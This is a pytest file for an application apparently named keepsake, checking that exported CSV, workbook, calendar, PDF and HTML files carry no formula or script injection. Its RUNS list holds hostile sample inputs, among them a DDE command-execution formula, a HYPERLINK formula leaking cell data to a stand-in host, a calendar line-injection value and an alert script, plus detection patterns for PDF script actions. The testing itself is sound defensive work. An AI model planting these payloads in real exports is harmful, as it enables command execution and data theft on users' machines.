"""Whatever is taken away, by a link, a form or the command line, carries no formula, no script and no line of its own.

The record is filled with hostile text first. The downloads are found by walking: a new one is looked at by itself, and
one of a kind that is not known here fails.
"""

import csv
import io
import json
import re
import zipfile
from argparse import _SubParsersAction
from collections import Counter
from html import unescape
from itertools import cycle
from pathlib import Path

import pytest
from openpyxl import load_workbook

from keepsake import cli
from keepsake.web.returns import sittings
from tests.crawl import marked
from tests.crawl.forms import every, is_file

pytestmark = pytest.mark.django_db
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001  what a spreadsheet may run
RUNS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?"&A1)',
    "\r\nATTACH:http://example.invalid/\r\nBEGIN:VALARM",
)
SCRIPTED = re.compile(rb"/(?:JavaScript|JS|Launch|OpenAction|AA|EmbeddedFile|RichMedia|SubmitForm)\b")
CALENDAR = re.compile(r"[A-Z-]+(?:;[A-Z]+=[A-Z-]+)?:.*")
IN_A_CALENDAR = {
    *("BEGIN", "END", "VERSION", "PRODID", "METHOD"),
    *("UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "CLASS"),
}


def of_table(content):
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert cells
    return [cell for cell in cells if cell.lstrip(" ").startswith(BEGINS) or cell.lstrip().startswith(BEGINS)]


def of_workbook(content):
    held = zipfile.ZipFile(io.BytesIO(content))
    assert not [name for name in held.namelist() if "external" in name.lower() or name.endswith(".bin")]
    assert not re.search(rb"<f[ >]|ddeLink", b"".join(held.read(name) for name in held.namelist()))
    cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
    assert cells
    return [cell.value for cell in cells if cell.data_type not in ("s", "inlineStr", "n") or cell.hyperlink]


def of_calendar(content):
    lines = content.decode().replace("\r\n ", "").split("\r\n")
    return [line for line in lines if line and (not CALENDAR.fullmatch(line) or name_of(line) not in IN_A_CALENDAR)]


def name_of(line):
    return re.split("[:;]", line)[0]


def of_paper(content):
    assert content.startswith(b"%PDF-")
    return SCRIPTED.findall(content)


def of_page(content):
    return re.findall(rb"<script>alert|<td>[^<]*<b>|<iframe", content)


LOOK = {
    "text/csv": of_table,
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": of_workbook,
    "text/calendar": of_calendar,
    "application/pdf": of_paper,
    "application/json": lambda content: [] if json.loads(content) is not None else [content],
    "text/html": of_page,
    "image/jpeg": lambda content: [] if content.startswith(b"\xff\xd8\xff") else [content[:20]],
}


def faults_of(answer, content):
    kind = answer.headers["Content-Type"].partition(";")[0]
    assert answer.headers.get("X-Content-Type-Options") == "nosniff"
    return LOOK[kind](content)


@pytest.fixture
def hostile(scene):
    """Every text of the record begins like a formula, and goes on with every other."""
    marked.write(lambda category: f"{RUNS[len(category) % len(RUNS)]} {' '.join(RUNS)}"[: marked.SHORTEST])
    return scene


def test_nothing_that_a_page_leads_to_carries_a_formula(hostile, site):
    faults, kinds = {}, Counter()
    for (asking, kind), address in site.files.items():
        answer = asking.ask("get", address)
        assert answer.status_code == 200, address
        kinds[answer.headers["Content-Type"].partition(";")[0]] += 1
        if found := faults_of(answer, answer.sent_bytes):
            faults[kind] = found

    assert faults == {}
    assert kinds.keys() >= {"text/csv", "text/calendar", "image/jpeg"}
    assert kinds.total() >= 6


def test_nothing_that_a_form_answers_with_carries_a_formula(hostile, forms):
    faults, kinds = {}, Counter()
    for asking, form in every(forms):
        if form.method != "post" or form.files:
            continue
        answer = asking.ask("post", form.address, form.sent())
        if answer.status_code == 200 and is_file(answer):
            kinds[answer.headers["Content-Type"].partition(";")[0]] += 1
            if found := faults_of(answer, answer.sent_bytes):
                faults[form.address] = found

    assert faults == {}
    assert kinds["application/pdf"] >= 1


def a_return():
    """A return in which every value is hostile, and wrong, so that it comes back as a finding."""
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(("CHILD", "DOB", "IN_TOUCH", "ACTIV", "ACCOM"))
    writer.writerows((f"{words}<script>alert(1)</script>", "01/01/2008", words, words, words) for words in RUNS)
    return text.getvalue().encode()


def test_no_finding_of_a_return_is_taken_away_as_a_formula(scene, monkeypatch):
    monkeypatch.setattr("keepsake.web.returns.checking.PATIENCE", 600)
    analyst = next(asking for each, asking in scene.asking.items() if each and each.role == "analyst")
    sent = {"of": "ssda903", "year": "2026-27", "sent": io.BytesIO(a_return())}
    sent["sent"].name = "leavers.csv"
    there = analyst.client.post("/returns/check/", sent)["Location"]
    page = unescape(analyst.client.get(there).content.decode())
    taken = [link for link in re.findall(r'href="([^"]+)"', page) if link.startswith(there) and "?" not in link]
    faults, kinds = {}, Counter()
    for link in taken:
        answer = analyst.client.get(link)
        if is_file(answer):
            kinds[answer.headers["Content-Type"].partition(";")[0]] += 1
            if found := faults_of(answer, answer.content):
                faults[link] = found
    sittings.wipe_of(next(each.account.pk for each in scene.askers if each.role == "analyst"))

    assert faults == {}
    assert kinds.total() >= 4


def leaves(parser, path=()):
    """Every command of the command line with its parser."""
    under = [each for each in parser._actions if isinstance(each, _SubParsersAction)]
    if not under:
        yield " ".join(path), parser
    for each in under:
        for name, found in each.choices.items():
            yield from leaves(found, (*path, name))


def formats_of(parser):
    return [choice for each in parser._actions for choice in (each.choices or ()) if choice in ("csv", "xlsx", "html")]


HERE = Path(__file__).parents[2]


def hostile_notice(folder):
    """A notice whose sentences begin like formulas."""
    text = (HERE / "notices" / "unnamed-council.yaml").read_text(encoding="utf-8")
    words = cycle(RUNS)

    def hostile(found):
        return found[1] + json.dumps(f"{next(words)} {found.start()}")

    file = folder / "hostile.yaml"
    file.write_text(re.sub(r"^(\s+label: ).*$", hostile, text, flags=re.MULTILINE), encoding="utf-8")
    return file


def hostile_return(folder):
    file = folder / "leavers.csv"
    file.write_bytes(a_return())
    return file


ASKED = {
    ("notice ropa", "csv"): lambda folder: ["notice", "ropa", "--format", "csv", str(hostile_notice(folder))],
    ("returns rules", "csv"): lambda folder: [
        "returns",
        "rules",
        "--return",
        "cin",
        "--year",
        "2026-27",
        "--format",
        "csv",
    ],
    **{
        ("returns check", form): lambda folder, form=form: [
            *("returns", "check", "--return", "ssda903", "--year", "2026-27", "--format", form),
            *("--output", str(folder / "out"), str(hostile_return(folder))),
        ]
        for form in ("csv", "xlsx", "html")
    },
}


def test_every_table_of_the_command_line_is_looked_at():
    found = {(name, form) for name, parser in leaves(cli.build_parser()) for form in formats_of(parser)}

    pages = {
        ("notice render", "html"),
        ("notice ropa", "html"),
    }  # the public pages of a notice: they have their own tests
    assert found - ASKED.keys() == pages


@pytest.mark.parametrize("asked", ASKED, ids=" ".join)
def test_no_table_of_the_command_line_carries_a_formula(asked, tmp_path, capsysbinary):
    cli.main(ASKED[asked](tmp_path))
    written = list((tmp_path / "out").glob("*")) if (tmp_path / "out").exists() else []
    content = written[0].read_bytes() if written else capsysbinary.readouterr().out

    look = {"csv": of_table, "xlsx": of_workbook, "html": of_page}[asked[1]]
    assert look(content) == []
